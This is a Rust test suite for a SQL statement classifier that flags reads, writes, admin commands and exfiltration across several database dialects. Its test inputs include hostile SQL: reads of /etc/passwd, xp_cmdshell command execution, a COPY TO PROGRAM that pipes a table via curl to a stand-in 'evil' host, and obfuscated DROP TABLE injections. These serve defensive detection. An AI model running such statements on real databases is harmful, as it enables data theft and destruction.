        assert_labels(&pg("GRANT ALL ON users TO PUBLIC"), &["sql.dcl"], &[]);
        assert_labels(&pg("REVOKE SELECT ON users FROM bob"), &["sql.dcl"], &[]);
        assert_labels(&pg("CREATE ROLE admin2 SUPERUSER"), &["sql.dcl"], &[]);
        assert_labels(&pg("DROP ROLE bob"), &["sql.dcl"], &["sql.ddl"]);
        assert_labels(&pg("SET ROLE postgres"), &["sql.admin"], &[]);
        assert_labels(
            &pg("SET SESSION AUTHORIZATION postgres"),
            &["sql.admin"],
            &[],
        );
        assert_labels(&pg("CREATE EXTENSION plpython3u"), &["sql.admin"], &[]);
        assert_labels(&pg("LOAD 'plpgsql'"), &["sql.admin"], &[]);
        assert_labels(
            &pg("SET session_replication_role = replica"),
            &["sql.admin"],
            &[],
        );
        assert_labels(
            &pg("SET statement_timeout = 5000"),
            &["sql.read"],
            &["sql.admin"],
        );
        let mysql = |sql| classify_with(SqlDialect::Mysql, sql);
        assert_labels(
            &mysql("SET GLOBAL max_connections = 1"),
            &["sql.admin"],
            &[],
        );
        assert_labels(&mysql("SET @@GLOBAL.read_only = 0"), &["sql.admin"], &[]);
        assert_labels(&mysql("KILL 53"), &["sql.admin"], &[]);
    }

    #[test]
    fn unparseable_admin_statements_still_carry_hints() {
        let c = pg("ALTER SYSTEM SET wal_level = minimal");
        assert_labels(&c, &["sql.unparsed", "sql.admin"], &[]);
        let c = classify_with(SqlDialect::Mssql, "SHUTDOWN WITH NOWAIT");
        assert_labels(&c, &["sql.unparsed", "sql.admin"], &[]);
    }

    #[test]
    fn every_statement_is_walked() {
        let c = pg("SELECT 1; DROP TABLE users");
        assert_labels(&c, &["sql.read", "sql.ddl", "sql.multi_statement"], &[]);
        let c = pg("SELECT 1 -- x\n; DROP TABLE users");
        assert_labels(&c, &["sql.ddl", "sql.multi_statement"], &[]);
        let c = classify_with(SqlDialect::Mysql, "SELECT 1 # c\n; DROP TABLE users");
        assert_labels(&c, &["sql.ddl", "sql.multi_statement"], &[]);
        let c = pg("BEGIN; COMMIT; TRUNCATE users");
        assert_labels(&c, &["sql.delete_all", "sql.multi_statement"], &[]);
    }

    #[test]
    fn writes_hidden_in_ctes_and_explain_analyze() {
        let c = pg("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d");
        assert_labels(&c, &["sql.write", "sql.delete_all"], &[]);
        assert!(c.objects.contains("table:users"));
        let c = pg("WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT 1");
        assert_labels(&c, &["sql.write"], &["sql.update_all"]);
        let c = pg("EXPLAIN ANALYZE DELETE FROM users");
        assert_labels(&c, &["sql.write", "sql.delete_all"], &[]);
        let c = pg("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1");
        assert_labels(&c, &["sql.write", "sql.update_all"], &[]);
    }

    #[test]
    fn explain_without_analyze_only_plans() {
        let c = pg("EXPLAIN DELETE FROM users");
        assert_labels(&c, &["sql.read"], &["sql.write", "sql.delete_all"]);
        assert!(c.objects.contains("table:users"));
        let c = pg("EXPLAIN (ANALYZE false) DELETE FROM users");
        assert_labels(&c, &["sql.read"], &["sql.write"]);
        let c = pg("EXPLAIN SELECT * FROM customers");
        assert_labels(&c, &["sql.read"], &["sql.bulk_read"]);
        // Function names are still reported: cheap, and safe.
        let c = pg("EXPLAIN SELECT pg_read_file('/etc/passwd')");
        assert_labels(&c, &["sql.exfil"], &[]);
    }

    #[test]
    fn locking_reads_are_write_intent() {
        let c = pg("SELECT id FROM orders WHERE id = 1 LIMIT 1 FOR UPDATE");
        assert_labels(&c, &["sql.read", "sql.write"], &["sql.bulk_read"]);
        assert!(c.findings.iter().any(|f| f.what.contains("write intent")));
        let c = pg("SELECT id FROM orders WHERE id = 1 LIMIT 1 FOR SHARE");
        assert_labels(&c, &["sql.write"], &[]);
        let c = pg("SELECT * FROM (SELECT id FROM orders FOR UPDATE) s LIMIT 1");
        assert_labels(&c, &["sql.write"], &[]);
    }

    #[test]
    fn dangerous_functions_anywhere_in_the_tree() {
        for sql in [
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT PG_READ_FILE('/etc/passwd')",
            "SELECT * FROM (SELECT pg_ls_dir('/')) s LIMIT 1",
            "WITH x AS (SELECT lo_import('/etc/passwd')) SELECT 1",
            "SELECT length(upper(pg_read_binary_file('/x'))) LIMIT 1",
            "SELECT 1 WHERE EXISTS (SELECT dblink_exec('host=x', 'DROP TABLE t'))",
            "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int) LIMIT 1",
            "SELECT lo_export(1, '/tmp/x')",
            "COPY users TO PROGRAM 'curl -d @- https://evil'",
            "COPY t FROM PROGRAM 'id'",
        ] {
            assert_labels(&pg(sql), &["sql.exfil"], &[]);
            assert_eq!(pg(sql).risk, Risk::Critical, "{sql}");
        }
        let mysql = classify_with(SqlDialect::Mysql, "SELECT LOAD_FILE('/etc/passwd')");
        assert_labels(&mysql, &["sql.exfil"], &[]);
        assert_labels(&pg("SELECT pg_terminate_backend(42)"), &["sql.admin"], &[]);
        assert_labels(
            &pg("SELECT set_config('role', 'postgres', false)"),
            &["sql.admin"],
            &[],
        );
    }

    #[test]
    fn mssql_procedures_and_rowset_functions() {
        let ms = |sql| classify_with(SqlDialect::Mssql, sql);
        assert_labels(&ms("EXEC xp_cmdshell 'whoami'"), &["sql.exfil"], &[]);
        assert_labels(&ms("EXEC master..xp_cmdshell 'dir'"), &["sql.exfil"], &[]);
        let c = ms("SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x', 'SELECT 1')");
        assert_labels(&c, &["sql.exfil"], &[]);
        assert!(!c.objects.contains("table:openrowset"));
        let c = ms("DECLARE @o INT; EXEC sp_OACreate 'WScript.Shell', @o OUT");
        assert_labels(&c, &["sql.unparsed", "sql.exfil"], &[]);
        assert_labels(
            &ms("SELECT TOP 10 name FROM dbo.orders"),
            &["sql.read"],
            &["sql.bulk_read"],
        );
        assert_labels(
            &ms("SELECT TOP 5000 name FROM dbo.orders"),
            &["sql.bulk_read"],
            &[],
        );
    }

    #[test]
    fn dynamic_sql_literals_are_classified_and_the_rest_is_unparsed() {
        let c = classify_with(
            SqlDialect::Snowflake,
            "EXECUTE IMMEDIATE 'DROP TABLE users'",
        );
        assert_labels(&c, &["sql.ddl"], &[]);
        let c = classify_with(SqlDialect::Mssql, "EXEC('DELETE FROM users')");
        assert_labels(&c, &["sql.delete_all"], &[]);
        let c = classify_with(SqlDialect::Mssql, "EXEC sp_executesql N'DROP TABLE users'");
        assert_labels(&c, &["sql.ddl"], &[]);
        let c = classify_with(
            SqlDialect::Bigquery,
            "EXECUTE IMMEDIATE CONCAT('DR', 'OP TABLE t')",
        );
        assert_labels(&c, &["sql.unparsed"], &[]);
        let c = pg("PREPARE s AS DELETE FROM users; EXECUTE s");
        assert_labels(
            &c,
            &["sql.delete_all", "sql.write", "sql.multi_statement"],
            &[],
        );
    }

    #[test]
    fn dialect_decides_what_a_backslash_does() {
        let sql = r"SELECT 'a\'; DROP TABLE users; --'";
        let c = pg(sql);
        assert_labels(&c, &["sql.ddl", "sql.multi_statement"], &[]);
        let c = classify_with(SqlDialect::Mysql, sql);
        assert_labels(&c, &["sql.read"], &["sql.ddl", "sql.multi_statement"]);
    }

    #[test]
    fn strings_and_comments_that_only_look_dangerous() {
        for sql in [
            "SELECT 'a; DROP TABLE users'",
            "SELECT $x$; DROP TABLE users; $x$",
            "SELECT 1 /* /* */ ; DROP TABLE users; */",
        ] {
            assert_labels(&pg(sql), &["sql.read"], &["sql.ddl", "sql.unparsed"]);
        }
    }

    #[test]
    fn executable_comments() {
        let c = classify_with(SqlDialect::Mysql, "/*!50000 DROP TABLE users */");
        assert_labels(&c, &["sql.ddl"], &[]);
        let c = classify_with(SqlDialect::Mysql, "SELECT 1 /*!50000 ; DROP TABLE users */");
        assert_labels(&c, &["sql.ddl", "sql.multi_statement"], &[]);
        // MariaDB's form is a comment to the parser: never silently low.
        let c = classify_with(SqlDialect::Mysql, "/*M!100300 DROP TABLE users */");
        assert_labels(&c, &["sql.unparsed", "sql.ddl"], &[]);
        let c = pg("/*M!100300 DROP TABLE users */");
        assert_labels(&c, &["sql.unparsed"], &[]);
        assert!(c.risk >= Risk::High);
    }

    #[test]
    fn parse_failures_fail_closed() {
        for sql in [
            "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$",
            "PREPARE s FROM CONCAT('DR','OP TABLE users'); EXECUTE s",
            "DR\u{41e}P TABLE users",
            "DROP\u{a0}TABLE users",
            "DROP\u{200b} TABLE users",
            "SELECT 1;\u{37e} DROP TABLE users",
            "SELEC * FROM t",
        ] {
            let c = pg(sql);
            assert_labels(&c, &["sql.unparsed"], &[]);
            assert!(c.risk >= Risk::High, "{sql}");
            assert!(
                c.findings
                    .iter()
                    .any(|f| f.what.contains("not valid postgres SQL"))
            );
        }
    }

    #[test]
    fn empty_input_runs_nothing_but_comment_only_input_is_suspicious() {
        assert!(pg("").labels.is_empty());
        assert!(pg(" \n\t ").labels.is_empty());
        assert_labels(&pg("-- nothing here"), &["sql.unparsed"], &[]);
        assert_labels(&pg(";"), &["sql.unparsed"], &[]);
        let c = pg("/* just a comment */");
        assert!(c.findings.iter().any(|f| f.what.contains("no statement")));
    }

    #[test]
    fn into_outfile_is_unparsed_and_exfil() {
        let c = classify_with(
            SqlDialect::Mysql,
            "SELECT * FROM users INTO OUTFILE '/tmp/u'",
        );
        assert_labels(&c, &["sql.unparsed", "sql.exfil", "sql.bulk_read"], &[]);
        let c = classify_with(SqlDialect::Mysql, "SELECT 1 INTO DUMPFILE '/tmp/x.so'");
        assert_labels(&c, &["sql.exfil"], &[]);
    }

    #[test]
    fn bulk_reads() {
        assert_labels(&pg("SELECT id FROM orders"), &["sql.bulk_read"], &[]);
        assert_labels(
            &pg("SELECT id FROM orders LIMIT 50"),
            &[],
            &["sql.bulk_read"],
        );
        assert_labels(
            &pg("SELECT id FROM orders LIMIT 5000"),
            &["sql.bulk_read"],
            &[],
        );
        assert_labels(
            &pg("SELECT id FROM orders LIMIT ALL"),
            &["sql.bulk_read"],
            &[],
        );
        assert_labels(
            &pg("SELECT id FROM orders LIMIT $1"),
            &["sql.bulk_read"],
            &[],
        );
        assert_labels(
            &pg("SELECT id FROM orders FETCH FIRST 10 ROWS ONLY"),
            &[],
            &["sql.bulk_read"],
        );
        assert_labels(&pg("SELECT count(*) FROM orders"), &[], &["sql.bulk_read"]);
        assert_labels(
            &pg("SELECT string_agg(email, ',') FROM orders"),
            &["sql.bulk_read"],
            &[],
        );
        assert_labels(&pg("SELECT now()"), &[], &["sql.bulk_read"]);
        assert_labels(
            &pg("SELECT * FROM customers LIMIT 1"),
            &["sql.bulk_read"],
            &[],
        );
        assert_labels(
            &pg("SELECT c.* FROM public.customers c LIMIT 1"),
            &["sql.bulk_read"],
            &[],
        );
        assert_labels(&pg("SELECT * FROM orders LIMIT 1"), &[], &["sql.bulk_read"]);
        assert_labels(
            &pg("COPY (SELECT id FROM orders LIMIT 1) TO STDOUT"),
            &["sql.bulk_read"],
            &[],
        );
        let options = SqlOptions::new(SqlDialect::Postgres).with_bulk_row_limit(10);
        let mut out = Classification::new();
        inspect_sql("SELECT id FROM orders LIMIT 50", &options, "/q", &mut out);
        assert_labels(&out, &["sql.bulk_read"], &[]);
    }

    #[test]
    fn tables_and_columns_touched() {
        let c =
            pg("SELECT c.email FROM Public.\"Customers\" c JOIN orders o ON o.cid = c.id LIMIT 5");
        for object in ["table:public.customers", "table:customers", "table:orders"] {
            assert!(c.objects.contains(object), "{object}: {:?}", c.objects);
        }
        let c = pg("SELECT email, c.name FROM customers c WHERE id = 1");
        assert!(
            c.objects.contains("column:customers.email"),
            "{:?}",
            c.objects
        );
        assert!(
            c.objects.contains("column:customers.name"),
            "{:?}",
            c.objects
        );
        let c = pg("UPDATE users SET admin = true WHERE id = 1");
        assert!(c.objects.contains("column:users.admin"));
        let c = pg("INSERT INTO audit.log (who, what) SELECT name, 'x' FROM users LIMIT 1");
        for object in [
            "table:audit.log",
            "table:log",
            "table:users",
            "column:log.who",
        ] {
            assert!(c.objects.contains(object), "{object}: {:?}", c.objects);
        }
        let c = pg("DROP TABLE IF EXISTS a, b.c");
        for object in ["table:a", "table:b.c", "table:c"] {
            assert!(c.objects.contains(object), "{object}: {:?}", c.objects);
        }
        let c = pg("SELECT * FROM orders WHERE id IN (SELECT oid FROM refunds) LIMIT 1");
        assert!(c.objects.contains("table:refunds"));
        let c = pg("ALTER TABLE users RENAME TO u2");
        assert!(c.objects.contains("table:users"));
        let c = pg("COPY users TO STDOUT");
        assert!(c.objects.contains("table:users"));
    }

    #[test]
    fn table_command_in_a_set_operation_is_a_read_of_that_table() {
        let c = pg("SELECT id FROM orders UNION TABLE users");
        assert!(c.objects.contains("table:users"), "{:?}", c.objects);
        assert_labels(&c, &["sql.bulk_read"], &[]);
        let c = pg("SELECT 1 UNION ALL TABLE public.customers LIMIT 1");
        assert!(
            c.objects.contains("table:public.customers"),
            "{:?}",
            c.objects
        );
        assert_labels(&c, &["sql.bulk_read"], &[]);
    }

    #[test]
    fn select_into_variables_is_not_a_write() {
        let c = classify_with(SqlDialect::Mysql, "SELECT id INTO @v FROM orders LIMIT 1");
        assert_labels(&c, &["sql.read"], &["sql.write"]);
        assert!(!c.objects.contains("table:@v"));
    }

    #[test]
    fn other_dialects() {
        let sqlite = |sql| classify_with(SqlDialect::Sqlite, sql);
        assert_labels(
            &sqlite("ATTACH DATABASE '/tmp/x.db' AS x"),
            &["sql.admin"],
            &[],
        );
        assert_labels(&sqlite("PRAGMA writable_schema = 1"), &["sql.admin"], &[]);
        assert_labels(
            &sqlite("SELECT load_extension('/tmp/x.so')"),
            &["sql.admin"],
            &[],
        );
        assert_labels(
            &sqlite("INSERT OR REPLACE INTO t VALUES (1)"),
            &["sql.write"],
            &[],
        );
        let snow = |sql| classify_with(SqlDialect::Snowflake, sql);
        assert_labels(
            &snow("COPY INTO @stage FROM users"),
            &["sql.bulk_read"],
            &[],
        );
        assert_labels(&snow("COPY INTO users FROM @stage"), &["sql.write"], &[]);
        assert_labels(&snow("USE ROLE accountadmin"), &["sql.admin"], &[]);
        let bq = |sql| classify_with(SqlDialect::Bigquery, sql);
        let c = bq("SELECT * FROM `proj.ds.users` LIMIT 5");
        assert_labels(&c, &["sql.bulk_read"], &[]);
        assert!(c.objects.contains("table:proj.ds.users") && c.objects.contains("table:users"));
        assert_labels(
            &bq("EXPORT DATA OPTIONS(uri='gs://b/*.csv', format='CSV') AS SELECT 1"),
            &["sql.bulk_read"],
            &[],
        );
    }

    #[test]
    fn dialect_names() {
        for dialect in [
            SqlDialect::Postgres,
            SqlDialect::Mysql,
            SqlDialect::Sqlite,
            SqlDialect::Mssql,
            SqlDialect::Snowflake,
            SqlDialect::Bigquery,
            SqlDialect::Generic,
        ] {
            assert_eq!(dialect.as_str().parse::<SqlDialect>(), Ok(dialect));
            assert_eq!(dialect.to_string(), dialect.as_str());
            let json = serde_json::to_string(&dialect).unwrap_or_default();
            assert_eq!(json, format!("\"{}\"", dialect.as_str()));
        }
        assert_eq!("MariaDB".parse::<SqlDialect>(), Ok(SqlDialect::Mysql));
        assert!("oracle".parse::<SqlDialect>().is_err());
        let options = SqlOptions::default();
        assert_eq!(options.dialect, SqlDialect::Generic);
        assert_eq!(options.bulk_row_limit, DEFAULT_BULK_ROW_LIMIT);
    }

    #[test]
    fn deep_nesting_is_an_error_not_a_crash() {
        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
        assert_labels(&pg(&deep), &["sql.unparsed"], &[]);
    }

    #[test]
    fn long_operator_chains_do_not_overflow_the_stack() {
        let n = 150_000;
        for sql in [
            format!("SELECT 1{}", "+1".repeat(n)),
            format!("SELECT * FROM t WHERE a = 1{}", " OR a = 1".repeat(n / 4)),
            format!("SELECT 1{}", " UNION SELECT 1".repeat(n / 8)),
            format!("SELECT 1{}", "::int".repeat(n / 3)),
            format!("DELETE FROM t WHERE 1=1{}", " OR 1=1".repeat(n / 4)),
        ] {
            assert!(sql.len() < MAX_SQL_BYTES);
            let c = pg(&sql);
            assert!(!c.labels.is_empty());
        }
    }

    #[test]
    fn nested_statements_and_bracket_chains_do_not_overflow_the_stack() {
        let explains = format!("{}SELECT 1", "EXPLAIN ".repeat(200));
        let prepares: String = (0..60).map(|i| format!("PREPARE p{i} AS ")).collect();
        let blocks = format!(
            "{}SELECT 1;{}",
            "IF 1=1 THEN ".repeat(60),
            " END IF;".repeat(60)
        );
        let subscripts = format!("SELECT x{} FROM t", "[1]".repeat(100_000));
        let dimensions = format!("SELECT CAST(1 AS INT{})", "[]".repeat(100_000));
        for sql in [
            explains,
            format!("{prepares}SELECT 1"),
            blocks,
            subscripts,
            dimensions,
        ] {
            for dialect in [
                SqlDialect::Postgres,
                SqlDialect::Generic,
                SqlDialect::Snowflake,
            ] {
                let c = classify_with(dialect, &sql);
                assert_labels(&c, &["sql.unparsed"], &[]);
            }
        }
        let c = pg("SELECT x[1][2] FROM t LIMIT 1");
        assert_labels(&c, &["sql.read"], &["sql.unparsed"]);
    }

    #[test]
    fn oversized_input_is_not_parsed() {
        let sql = format!("SELECT {}1", " ".repeat(MAX_SQL_BYTES));
        let c = pg(&sql);
        assert_eq!(labels(&c), ["sql.unparsed"]);
        assert!(c.findings[0].what.contains("too long to inspect"));
    }

    #[test]
    fn findings_are_deduplicated_and_capped() {
        let c = pg("SELECT 1; SELECT 1; SELECT 1");
        let reads = c.findings.iter().filter(|f| f.label == "sql.read").count();
        assert_eq!(reads, 1);
        let many: String = (0..500).map(|i| format!("DROP TABLE t{i};")).collect();
        let c = pg(&many);
        assert!(c.findings.len() <= MAX_FINDINGS);
        assert!(c.objects.contains("table:t499"));
    }
}
